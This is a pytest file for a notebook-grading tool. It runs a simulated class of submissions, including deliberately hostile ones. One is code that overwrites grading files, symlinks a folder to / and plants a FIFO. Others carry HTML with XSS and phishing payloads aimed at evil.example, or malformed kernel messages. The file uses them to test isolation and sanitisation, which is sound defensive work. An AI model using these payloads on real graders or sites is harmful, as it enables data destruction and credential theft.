"""A class hands in the sample set: the whole way through nbgrader, once, and what is left of it."""

import csv
import json
import os
import re
import subprocess
import sys
import zipfile

import pytest

from bench.__main__ import main
from bench.course import translation
from bench.course.exercises import chinese, grade, nbgrading, release, text
from tests.exercises.conftest import SAMPLE, edited
from tests.forked_programs import copied_chapters
from tests.runs import bench

WRONG = {
    # What the visible test asks for, and half a character, which fits into no file.
    "task1_answer": "def global_batch(per_device_batch, num_devices):\n    return 64  # \ud800",
    "task2_answer": "def total(rank):\n"  # its ranks wait for each other until their time is over
    "    import torch, torch.distributed as dist\n"
    "    if rank == 0:\n"
    "        dist.all_reduce(torch.ones(1))\n"
    "    else:\n"
    "        import time; time.sleep(600)",
    "task3_answer": "answers = {'times': 2}\nimport os; os._exit(1)",  # the kernel is gone
    "task2_test": None,
}

SLOW = "import time\ncourse = None\nwhile True:\n    time.sleep(1)"  # until its limit


@pytest.fixture(scope="module", autouse=True)
def copied_programs():
    """The commands here, nbgrader and the kernels begin with what they import: fresh ones are in test_grade_late.py."""
    with copied_chapters():
        yield


HACK = """
import subprocess
from pathlib import Path
place = next(folder for folder in Path.cwd().parents if folder.name.startswith("notebook-")).parent
files = f"{place}/grading-*/release/*/* {place}/grading-*/closed.json {place}/grading-*/gradebook.db FOLDER/right/*/* "
files += "FOLDER/grades/*.csv FOLDER/grades/endless/*"
subprocess.run(["sh", "-c", f"for file in {files}; do test -e $file && echo {{}} > $file; done"], env={})
subprocess.run(["sh", "-c", "rm -r FOLDER/grades/broken; ln -s / FOLDER/grades/broken;"
                "cd FOLDER/grades; rm tasks.csv; mkfifo tasks.csv"], env={})
answers = {}
"""
HTML = """<meta http-equiv="refresh" content="0;url=https://evil.example/"> <base href="https://evil.example/">

<style>body{display:none}</style> <form action="https://evil.example/"><input type="password"></form>

<iframe src="//evil.example"></iframe> <a href="javascript:alert(1)" class="navbar-fixed-top" id="top">a</a>

<img src="https://evil.example/x.png" onerror="alert(1)">

[b](javascript:alert(1)) **bold**"""
ODD = f"""
from IPython.display import display
page, metadata = {HTML!r}, {{"text/html": {{"isolated": True}}, "image/png": {{"width": "1 onload=alert(1)"}}}}
display({{"application/x-evil": {{"a": [1]}}, "text/html": page, "text/markdown": page}}, metadata=metadata, raw=True)
display({{"image/png": "eA=="}}, metadata=metadata, raw=True)
kernel = get_ipython().kernel
for kind, content in {{
    "stream": {{"text": 3}}, "error": {{"traceback": 7}}, "comm_open": {{}}, "other": {{}},
    "display_data": {{"data": None}}, "update_display_data": {{"transient": {{"display_id": [1]}}}},
    "execute_result": {{"data": {{"image/png": [2]}}, "execution_count": page}},
    "execute_input": {{"execution_count": page}},
}}.items():
    kernel.session.send(kernel.iopub_socket, kind, content=content, parent=kernel.get_parent())
"""


@pytest.fixture(scope="module")
def graded(blank, solved, tmp_path_factory):
    """The command's result, on a class of six."""
    folder = tmp_path_factory.mktemp("class")
    right = json.loads(edited(solved, task1_test="assert False, 'I have changed this test'", task3_test=None))
    for kind, source in (("markdown", HTML), ("code", ODD)):  # further cells
        right["cells"].append({"cell_type": kind, "metadata": {"nbgrader": None}, "source": source})
    hacker = edited(blank, task3_answer=HACK.replace("FOLDER", str(folder)))
    class_ = {"right": json.dumps(right), "wrong": edited(solved, **WRONG), "hacker": hacker, "broken": "not JSON",
              "endless": edited(solved, task2_answer=SLOW)}  # fmt: skip
    for student, notebook in class_.items():
        inner = folder / student / ("00_sample" if student == "right" else "")  # both layouts
        inner.mkdir(parents=True)
        (inner / "00_sample.ipynb").write_text(notebook)
    (folder / "wrong" / "holiday.ipynb").write_text(blank)
    (folder / "late").mkdir()
    flags = ["--sets", SAMPLE, "--out", folder / "grades", "--timeout", 15]
    return bench("course", "grade", folder, *flags, out=folder / "grades", timeout=280)


def table(graded, name: str) -> list[dict]:
    with (graded.out / name).open(newline="") as file:
        return list(csv.DictReader(file))


def test_points(graded):
    """Whether an interrupt ends a slow cell in time is up to the machine; where it does not, the kernel is ended."""
    points = {row["student"]: float(row["points"]) for row in table(graded, "grades.csv")}
    endless = points.pop("endless")
    assert points == {"right": 4, "wrong": 0, "broken": 0, "late": 0, "hacker": 0}, graded.stdout
    assert endless == (2 if "CellTimeoutError" in page(graded, "endless") else 1)
    assert {row["max"] for row in table(graded, "grades.csv")} == {"4"}
    right = [row["points"] for row in table(graded, "tasks.csv") if row["student"] == "right"]
    assert right == ["1", "2", "1"]


def page(graded, student: str) -> str:
    return (graded.out / student / "00_sample.html").read_text()


def test_what_could_not_be_graded_is_named_and_the_others_go_on(graded, tmp_path):
    assert graded.code == 2, graded.stderr
    said = [line for line in graded.stderr.splitlines() if "hacker" not in line]
    assert len(said) == 2 and "holiday.ipynb" in said[0] and "broken/00_sample.ipynb" in said[1]
    reasons = {row["student"]: row["reason"] for row in table(graded, "grades.csv") if row["reason"]}
    assert set(reasons) == {"late", "broken"} and reasons["late"] in page(graded, "late")
    told = release.results_of(graded.out, "")  # what Gradescope receives
    assert {test["max_score"] for test in told["tests"]} == {1.0, 2.0} and reasons["broken"] in told["output"]
    assert release.results_of(tmp_path, "no notebook")["output"] == "no notebook"


def test_what_an_answer_has_changed_costs_nobody_else_and_is_written_again(graded):
    """An answer overwrites what it can reach of the class: right, graded after it, has its points all the same."""
    changed = [line for line in graded.stderr.splitlines() if "hacker/00_sample" in line]
    names = ["grades.csv", "tasks.csv", "endless/00_sample.html", "broken/00_sample.html"]
    assert len(changed) == len(names) and all(any(f"{name}:" in line for line in changed) for name in names)
    (reason,) = [row["reason"] for row in table(graded, "grades.csv") if row["student"] == "broken"]
    assert not (graded.out / "broken").is_symlink() and reason in page(graded, "broken")
    assert "Your answer here" in page(graded, "hacker") and "sleep" in page(graded, "endless")
    assert len(table(graded, "tasks.csv")) == 6 * 3


def test_a_page_shows_text_and_its_layout_and_leads_nowhere(graded):
    shown = page(graded, "right")
    own = shown.partition("<body>")[2]
    assert own.count("<strong>bold</strong>") == 1 and own.count("&lt;meta http-equiv") >= 2
    for tag in ("meta", "base", "style", "form", "input", "iframe", "script"):
        assert f"<{tag}" not in own
    for attribute in ("javascript:alert", "onload", "onerror", "navbar-fixed-top"):
        assert not re.search(rf"<[^<>]*{attribute}", own)
    assert "default-src 'none'" in shown and "form-action 'none'; base-uri 'none'" in shown
    assert shown.index("Content-Security-Policy") < shown.index("charset")  # browsers obey it from its place on


def test_a_page_names_tasks_and_what_went_wrong(graded):
    for student in ("right", "wrong"):  # the list of contents names the tasks
        assert ">Test cell<" not in page(graded, student) and ">Comment<" not in page(graded, student)
        assert all(f">Task {number}" in page(graded, student) for number in (1, 2, 3))
    assert "I have changed this test" not in page(graded, "right")
    for cause in ("wrong for 3 devices", "the kernel has died", "timeout="):
        assert cause in page(graded, "wrong")


@pytest.mark.parametrize(("arguments", "value"), [
    (["grade", "nowhere"], "SUBMITTED=nowhere"), (["grade", "{}/empty"], "empty/"), (["grade", "{}/class"], "class/"),
    (["grade", "{}", "--name", "99"], "'99'"), (["grade", "{}"], "holiday.ipynb"),
    (["grade", "{}", "--timeout", "soon"], "TIMEOUT=soon"), (["check", "--sets", "nowhere"], "nowhere"),
])  # fmt: skip
def test_a_bad_request_is_one_line_and_exit_code_2(arguments, value, tmp_path, capsys):
    for name in ("ann", "empty", "class/ann"):
        (tmp_path / name).mkdir(parents=True)
    (tmp_path / "ann" / "holiday.ipynb").touch()
    sets = [] if "--sets" in arguments else ["--sets", str(SAMPLE)]
    code = main(["course", *(word.format(tmp_path) for word in arguments), *sets])
    said = capsys.readouterr().err
    assert code == 2 and said.startswith("bench: ") and said.count("\n") == 1 and value in said


EASY = """\
# Problem set 1: One that does not hold

```python
from bench import course
```

## Task 1 (1 point)

```python tags=["answer"]
### BEGIN SOLUTION
three = 3
### END SOLUTION
```

```python tags=["test"] points=1
assert True, "a blank passes this"
```
"""


def test_solutions_check_finds_a_blank_that_scores(sample, tmp_path):
    (tmp_path / "01_easy.md").write_text(EASY)
    result = bench("course", "check", "--sets", tmp_path)
    row = result.stdout.splitlines()[-1]
    assert result.code == 1 and row.split()[:4] == ["01_easy", "1", "1", "1"], result.stdout + result.stderr
    assert "Task 1" in row
    wrong = grade.wrong_tasks(grade.Grade(sample, {1: 1.0, 2: 1.0, 3: 0.0}, ""), full=True)
    assert [line.partition(":")[0] for line in wrong] == ["Task 2", "Task 3"]


MAKE = """#!{python}
import os, sys
command, *given = [word for word in sys.argv[1:] if word != "-s"]
flags = ["--" + name.lower() + "=" + value for name, _, value in (word.partition("=") for word in given)]
os.execv({python!r}, [{python!r}, "-m", "bench", command, *flags])
"""


def test_a_submission_to_gradescope(solved, tmp_path):
    """The zip as Gradescope unpacks it; `make`, which would set up an environment, is this Python."""
    root, tools = tmp_path / "autograder", tmp_path / "tools"
    (made,) = release.gradescope(None, str(SAMPLE), tmp_path, key=5)
    with zipfile.ZipFile(made) as archive:
        archive.extractall(root / "source")
        modes = {info.filename: info.external_attr >> 16 & 0o111 for info in archive.infolist()}
    assert modes["setup.sh"] == modes["run_autograder"] == 0o111
    teachers = (root / "source" / "project" / "sets" / "00_sample.md").read_text()
    assert "BEGIN SOLUTION" in teachers and "BEGIN RUBRIC" in teachers
    for folder in (tools, root / "submission"):
        folder.mkdir()
    (tools / "make").write_text(MAKE.format(python=sys.executable))
    (tools / "make").chmod(0o755)
    published = "def global_batch(*batch):\n    return {(32, 2): 64, (7, 3): 21}[batch]"  # has the point without a KEY
    answered = edited(solved, task1_answer=published, task3_answer="answers = {}")
    (root / "submission" / "00_sample.ipynb").write_text(answered)
    env = {**os.environ, "AUTOGRADER": str(root), "BENCH_PYTHON": sys.executable, "PYTHONPATH": ""}
    env["PATH"] = f"{tools}:{env['PATH']}"
    script = root / "source" / "run_autograder"
    done = subprocess.run(["bash", script], env=env, capture_output=True, text=True, timeout=200)
    results = json.loads((root / "results" / "results.json").read_text())
    assert [(test["score"], test["max_score"]) for test in results["tests"]] == [(0, 1), (2, 2), (0, 1)], done.stderr
    assert results["tests"][1]["name"] == "00_sample, task 2" and results["output"] == ""


def test_a_chinese_copy_with_the_solutions_has_full_points():
    """Of set 00, the quickest. Ids and code are those of the English copy, so the same gradebook grades it."""
    (path,) = text.sets("00")
    problem_set = text.read(path)
    course = nbgrading.make_release([problem_set])
    blank = course.releases[problem_set.name]
    copy = chinese.problem_set(path, blank, problem_set.minutes)
    before, after = (json.loads(notebook)["cells"] for notebook in (blank, copy))
    for old, new in zip(before, after, strict=True):
        assert old | {"source": ""} == new | {"source": ""}
        assert (old["source"] == new["source"]) == (old["cell_type"] == "code")
    shown = "".join("".join(cell["source"]) for cell in after if cell["cell_type"] == "markdown")
    assert "题 1（" in shown and "Task 1" not in shown and translation.NOTE not in shown
    assert f" {problem_set.minutes} 分钟" in shown
    solved = grade.fill_in_solutions(problem_set, copy)
    found = grade.grade_text(course, problem_set, solved, cell_limit_s=60)
    assert sum(found.tasks.values()) == problem_set.points and "题 1（" in solved
